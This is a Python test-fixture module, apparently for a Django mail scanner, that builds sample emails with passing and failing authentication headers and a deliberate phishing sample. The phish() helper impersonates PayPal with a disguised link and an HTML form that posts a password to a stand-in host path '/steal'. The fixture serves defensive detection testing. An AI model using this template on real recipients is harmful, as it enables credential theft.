"""Mails for tests, written for them."""

from email.message import EmailMessage
from email.utils import format_datetime
from typing import Any

from django.utils import timezone

ACCOUNT = "post@company.example"
AUTHSERV = "mx.company.example"
TODAY = format_datetime(timezone.now())  # one moment for a whole run: the date is part of a mail's identity
PASS = f"{AUTHSERV}; dmarc=pass header.from=partner.example; dkim=pass header.d=partner.example"
FAIL = f"{AUTHSERV}; dmarc=fail header.from=partner.example; spf=fail smtp.mailfrom=elsewhere.example"


def eml(
    subject: str = "Tender for a web shop",
    body: str = "Hello, we would like an offer for a web shop.",
    *,
    sender: str = "Mia Partner <mia@partner.example>",
    to: str = ACCOUNT,
    message_id: str | None = "<1@partner.example>",
    html: str = "",
    **headers: Any,
) -> bytes:
    """A plain message; `headers` in keyword form (`in_reply_to="<1@x>"`), None leaves one out."""
    message = EmailMessage()
    fields = {"From": sender, "To": to, "Subject": subject, "Date": TODAY}
    fields |= {"Message-ID": message_id} if message_id else {}
    fields |= {name.replace("_", "-").title(): value for name, value in headers.items()}
    for name, value in fields.items():
        if value is not None:
            message[name] = value
    message.set_content(body)
    if html:
        message.add_alternative(html, subtype="html")
    return message.as_bytes()


def authenticated(result: str = PASS, **fields: Any) -> bytes:
    """A message as our own provider hands it over, with its word on the sender on top."""
    return f"Authentication-Results: {result}\n".encode() + eml(**fields)


PHISH_TEXT = "Your account is suspended. Verify your password within 24 hours or it will be closed: "


def phish(
    argument: str = "", *, sender: str = '"PayPal Security" <service.alert@random-host.tk>', result: str = ""
) -> bytes:
    """Everything at once that a phish does: whatever the scan's weights are, it must not pass. `argument` is added."""
    raw = eml(
        subject="URGENT: your PayPal account is suspended, verify your password within 24 hours",
        body=f"{PHISH_TEXT} http://192.0.2.7/paypal/login.php\n\n{argument}",
        sender=sender,
        message_id="<phish@random-host.tk>",
        reply_to="paypal.help.desk@gmail.com",
        html=f"<p>{PHISH_TEXT}</p>"
        '<a href="http://192.0.2.7/paypal/login.php">https://www.paypal.com/signin</a>'
        '<form action="http://192.0.2.7/steal"><input type="password" name="p"></form>'
        f"<p>{argument}</p>",
    )
    return (f"Authentication-Results: {result}\n".encode() if result else b"") + raw


PHISH = phish()
